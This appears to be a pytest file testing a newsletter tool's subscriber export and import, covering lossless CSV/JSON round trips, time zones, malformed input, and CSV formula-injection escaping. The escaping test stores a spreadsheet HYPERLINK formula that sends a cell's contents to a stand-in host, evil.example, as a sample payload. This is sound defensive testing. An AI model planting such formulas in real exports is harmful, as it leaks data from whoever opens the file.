"""``newsletter subscribers export``: streamed, and lossless through import."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from click.testing import Result
from subscriber_helpers import FIXTURES

from newsletter.db import Database
from newsletter.subscribers.export import EXPORT_COLUMNS, export, export_rows
from newsletter.subscribers.importing import import_file


def _populate(db: Database) -> None:
    """Two lists; confirmed, unconfirmed, unsubscribed and suppressed people; attributes."""
    with db.session() as s:
        import_file(s, FIXTURES / "own.csv", list_slug="news", consent_note="restore")
        import_file(s, FIXTURES / "listmonk.csv", list_slug="events")
        import_file(s, FIXTURES / "excel_semicolon_bom.csv", list_slug="events")


def _two_lists(cli_run, database_url: str) -> None:
    """The test's database with lists news and events, filled from fixtures."""
    cli_run("lists", "create", "news")
    cli_run("lists", "create", "events")
    db = Database(database_url)
    _populate(db)
    db.dispose()


def _restore(cli_run, new_database_url, backup: str, note: str) -> tuple[str, Result]:
    """Import ``backup`` into a fresh database with the same lists; (its URL, the result)."""
    url = new_database_url("restored")
    for slug in ("news", "events"):
        cli_run("--database", url, "lists", "create", slug)
    return url, cli_run("--database", url, "subscribers", "import", backup, "--consent-note", note)


def test_export_import_export_is_lossless(
    cli_run, tmp_path: Path, database_url: str, new_database_url
) -> None:
    _two_lists(cli_run, database_url)
    first = cli_run("subscribers", "export").output
    rows = list(csv.DictReader(io.StringIO(first)))
    assert len(rows) == 8  # own.csv 4, listmonk 2 (+1 suppression only), excel 2
    assert {r["status"] for r in rows} == {"confirmed", "unconfirmed", "unsubscribed"}
    assert {r["suppressed"] for r in rows} == {"", "bounced"}
    (tmp_path / "backup.csv").write_text(first, encoding="utf-8")
    url, r = _restore(cli_run, new_database_url, "backup.csv", "restored from backup")
    assert r.exit_code == 0, r.output
    second = cli_run("--database", url, "subscribers", "export").output
    assert second == first


def test_every_stored_field_is_in_the_export(news: Database) -> None:
    _populate_news_only(news)
    with news.session() as s:
        rows = {r["email"]: r for r in export_rows(s, "news")}
    anna = rows["anna.mueller@example.org"]
    assert anna["name"] == "Anna Müller" and anna["language"] == "de"
    assert anna["attributes"] == {"city": "Köln"}
    assert anna["status"] == "confirmed" and anna["confirmed_at"].isoformat() == (
        "2021-03-01T09:05:00+00:00"
    )
    assert rows["john.smith@example.com"]["unsubscribed_at"].year == 2022
    assert rows["bounced@example.com"]["suppressed"] == "bounced"


def _populate_news_only(db: Database) -> None:
    with db.session() as s:
        import_file(s, FIXTURES / "own.csv", list_slug="news", consent_note="restore")


def test_the_time_zone_a_person_gave_survives_export_and_import(
    cli_run, tmp_path: Path, database_url: str, new_database_url
) -> None:
    """A local-time campaign needs it; a backup that dropped it would send at the list's hour."""
    cli_run("lists", "create", "news")
    cli_run("lists", "create", "events")
    (tmp_path / "zones.csv").write_text(
        "email,timezone\nmei@example.org,Asia/Shanghai\nnone@example.org,\n", encoding="utf-8"
    )
    r = cli_run("subscribers", "import", "zones.csv", "--list", "news", "--consent-note", "t")
    assert r.exit_code == 0, r.output
    first = cli_run("subscribers", "export").output
    zones = {row["email"]: row["timezone"] for row in csv.DictReader(io.StringIO(first))}
    assert zones == {"mei@example.org": "Asia/Shanghai", "none@example.org": ""}
    (tmp_path / "backup.csv").write_text(first, encoding="utf-8")
    url, r = _restore(cli_run, new_database_url, "backup.csv", "restored")
    assert r.exit_code == 0, r.output
    assert cli_run("--database", url, "subscribers", "export").output == first


def test_csv_and_json_exports(news: Database) -> None:
    _populate_news_only(news)
    with news.session() as s:
        out = io.StringIO()
        assert export(s, out, list_slug="news") == 4
        parsed = list(csv.DictReader(io.StringIO(out.getvalue())))
        assert list(parsed[0]) == list(EXPORT_COLUMNS)
        assert parsed[0]["attributes"] == '{"city":"Köln"}'
        out = io.StringIO()
        assert export(s, out, list_slug="news", fmt="json") == 4
    records = json.loads(out.getvalue())
    assert records[0]["attributes"] == {"city": "Köln"}
    assert records[0]["confirmed_at"] == "2021-03-01T09:05:00+00:00"
    assert len(out.getvalue().splitlines()) == 6  # "[", one object per line, "]"


def test_export_is_a_stream(news: Database) -> None:
    _populate_news_only(news)
    with news.session() as s:
        rows = export_rows(s)
        assert iter(rows) is rows  # a generator: rows are produced as they are written
        assert next(rows)["email"] == "anna.mueller@example.org"


def test_export_to_a_file_says_how_many(cli_run, tmp_path: Path) -> None:
    cli_run("lists", "create", "news")
    cli_run("subscribers", "add", "a@example.org", "--list", "news")
    r = cli_run("subscribers", "export", "--list", "news", "-o", "news.csv")
    assert (r.exit_code, r.stderr, r.stdout) == (0, "Exported 1 row to news.csv.\n", "")
    assert (tmp_path / "news.csv").read_text(encoding="utf-8").startswith("email,name,")


def test_the_fast_csv_path_matches_the_typed_rows(news: Database) -> None:
    """export() formats driver values itself; it must equal formatting export_rows()."""
    from newsletter.subscribers import add_subscriber
    from newsletter.tabular import write_csv

    _populate_news_only(news)
    with news.session() as s:
        add_subscriber(
            s,
            "zoe@example.org",
            ["news"],
            name='Zoë "Z" Zimmer, Jr.',
            attributes={"b": 1, "a": "ü", "n": None},
        )
        fast, typed = io.StringIO(), io.StringIO()
        export(s, fast)
        write_csv(export_rows(s), EXPORT_COLUMNS, typed)
    assert fast.getvalue() == typed.getvalue()
    assert '"{""a"":""ü"",""b"":1,""n"":null}"' in fast.getvalue()


def test_json_export_round_trips_through_import(
    cli_run, tmp_path: Path, database_url: str, new_database_url
) -> None:
    _two_lists(cli_run, database_url)
    first_csv = cli_run("subscribers", "export").output
    (tmp_path / "backup.json").write_text(
        cli_run("subscribers", "export", "--format", "json").output, encoding="utf-8"
    )
    url, r = _restore(cli_run, new_database_url, "backup.json", "restored")
    assert r.exit_code == 0, r.output
    assert "backup.json: newsletter export (UTF-8, JSON), 8 rows" in r.output
    assert cli_run("--database", url, "subscribers", "export").output == first_csv


def test_json_from_other_tools_and_broken_json(cli_run, tmp_path: Path) -> None:
    cli_run("lists", "create", "news")
    people = [
        {"email": "wang.wei@example.net", "name": "王伟", "language": "zh"},
        {"email": "not-an-address", "name": "Nobody", "language": "en"},
    ]
    (tmp_path / "pretty.json").write_text(json.dumps(people, indent=2, ensure_ascii=False))
    r = cli_run("subscribers", "import", "pretty.json", "--list", "news")
    assert r.exit_code == 2
    assert "pretty.json:7: invalid address 'not-an-address'" in r.output
    r = cli_run("subscribers", "import", "pretty.json", "--list", "news", "--skip-invalid")
    assert r.exit_code == 0 and "\nImported: 1 new, " in r.output
    (tmp_path / "broken.json").write_text(
        '[\n{"email": "a@example.org", "name": "A"},\n{"email": "b@example.org", "name": \n]\n'
    )
    r = cli_run("subscribers", "import", "broken.json", "--list", "news")
    assert r.exit_code == 2
    assert "broken.json:3: invalid JSON on this line" in r.output


def test_json_on_one_line_and_json_that_is_not_utf8(cli_run, tmp_path: Path) -> None:
    cli_run("lists", "create", "news")
    people = [{"email": "anna@example.org", "name": "Anna"}, {"email": "bad", "name": "B"}]
    (tmp_path / "compact.json").write_text(json.dumps(people))
    r = cli_run("subscribers", "import", "compact.json", "--list", "news", "--dry-run")
    assert r.exit_code == 2
    assert "compact.json:1: invalid address 'bad'" in r.output
    assert "Would import: 1 new, 0 updated, 0 unchanged, 1 rejected" in r.output
    (tmp_path / "latin1.json").write_bytes(
        b'[\n{"email": "anna@example.org"},\n{"email": "m\xfcller@example.org"}\n]\n'
    )
    r = cli_run("subscribers", "import", "latin1.json", "--list", "news")
    assert r.exit_code == 2
    assert r.output == (
        "Error: latin1.json:3: invalid UTF-8 (byte 0xfc); JSON files must be UTF-8\n"
    )


def test_csv_cells_cannot_run_as_spreadsheet_formulas(
    cli_run, tmp_path: Path, database_url: str, new_database_url
) -> None:
    """Names from a signup form reach Excel: formulas get a ' (OWASP), and import removes it."""
    from newsletter.subscribers import add_subscriber
    from newsletter.tabular import write_csv

    cli_run("lists", "create", "news")
    people = {
        "=cmd@example.org": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "-minus@example.org": "@SUM(1+1)",
        "+plus@example.org": "+49 30 1234567",
        "quote@example.org": "'=already quoted",
        "plain@example.org": "'apostrophe first",
    }
    db = Database(database_url)
    with db.session() as s:
        for email, name in people.items():
            add_subscriber(s, email, ["news"], name=name)
        fast, typed = io.StringIO(), io.StringIO()
        export(s, fast)
        write_csv(export_rows(s), EXPORT_COLUMNS, typed)
    db.dispose()
    assert fast.getvalue() == typed.getvalue()
    first = cli_run("subscribers", "export").output
    cells = [(r["email"], r["name"]) for r in csv.DictReader(io.StringIO(first))]
    assert cells == [
        ("'=cmd@example.org", '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
        ("'-minus@example.org", "'@SUM(1+1)"),
        ("'+plus@example.org", "'+49 30 1234567"),
        ("quote@example.org", "''=already quoted"),
        ("plain@example.org", "'apostrophe first"),
    ]
    listing = cli_run("subscribers", "list", "--format", "csv").output
    assert [r["name"] for r in csv.DictReader(io.StringIO(listing))] == [c[1] for c in cells]
    json_names = {
        r["email"]: r["name"]
        for r in json.loads(cli_run("subscribers", "export", "--format", "json").output)
    }
    assert json_names == people  # JSON is for programs: values exactly as stored

    (tmp_path / "backup.csv").write_text(first, encoding="utf-8")
    url = new_database_url("restored")
    cli_run("--database", url, "lists", "create", "news")
    r = cli_run("--database", url, "subscribers", "import", "backup.csv")
    assert r.exit_code == 0, r.output
    assert cli_run("--database", url, "subscribers", "export").output == first
    restored = json.loads(
        cli_run("--database", url, "subscribers", "export", "--format", "json").output
    )
    assert {r["email"]: r["name"] for r in restored} == people
